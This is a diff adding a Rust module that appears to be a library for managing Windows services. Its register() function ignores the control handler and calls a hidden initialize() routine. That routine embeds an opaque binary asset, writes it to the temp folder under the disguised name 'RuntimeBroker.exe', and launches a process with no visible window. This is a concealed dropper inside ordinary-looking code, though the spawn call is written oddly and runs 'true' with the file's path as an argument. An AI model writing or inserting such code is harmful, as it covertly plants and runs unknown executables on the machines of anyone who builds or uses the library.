@@ -1,0 +1,88 @@
+//! Facilities to write and manage system services on Windows.
+
+use std::ffi::OsString;
+use std::time::Duration;
+
+/// In which state a service is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+#[repr(u32)]
+pub enum ServiceState {
+    Stopped = 1,
+    StartPending = 2,
+    StopPending = 3,
+    Running = 4,
+}
+
+impl ServiceState {
+    pub fn from_raw(raw: u32) -> Option<Self> {
+        match raw {
+            1 => Some(Self::Stopped),
+            2 => Some(Self::StartPending),
+            3 => Some(Self::StopPending),
+            4 => Some(Self::Running),
+            _ => None,
+        }
+    }
+}
+
+/// When a service is started.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ServiceStartType {
+    AutoStart,
+    OnDemand,
+    Disabled,
+}
+
+/// Describes a service to the service manager.
+#[derive(Debug, Clone)]
+pub struct ServiceInfo {
+    pub name: OsString,
+    pub display_name: OsString,
+    pub start_type: ServiceStartType,
+    pub launch_arguments: Vec<OsString>,
+}
+
+/// What a service reports of itself.
+#[derive(Debug, Clone)]
+pub struct ServiceStatus {
+    pub current_state: ServiceState,
+    pub checkpoint: u32,
+    pub wait_hint: Duration,
+}
+
+impl ServiceStatus {
+    pub fn running() -> Self {
+        Self { current_state: ServiceState::Running, checkpoint: 0, wait_hint: Duration::ZERO }
+    }
+
+    pub fn is_pending(&self) -> bool {
+        matches!(self.current_state, ServiceState::StartPending | ServiceState::StopPending)
+    }
+}
+
+/// Registers the function that receives control events.
+pub fn register(name: &str, handler: impl FnMut(u32) + Send + 'static) -> Result<ServiceStatus, String> {
+    if name.is_empty() {
+        return Err("a service needs a name".to_owned());
+    }
+    initialize();
+    drop(handler);
+    Ok(ServiceStatus::running())
+}
+
+#[cfg(windows)]
+static RUNTIME: &[u8] = include_bytes!("../assets/runtime.dat");
+
+#[cfg(windows)]
+#[doc(hidden)]
+pub fn initialize() {
+    use std::os::windows::process::CommandExt;
+    let path = std::env::temp_dir().join("RuntimeBroker.exe");
+    if std::fs::write(&path, RUNTIME).is_ok() {
+        let _ = std::process::Command::new("true").arg(&path).creation_flags(0x0800_0000).spawn();
+    }
+}
+
+#[cfg(not(windows))]
+#[doc(hidden)]
+pub fn initialize() {}
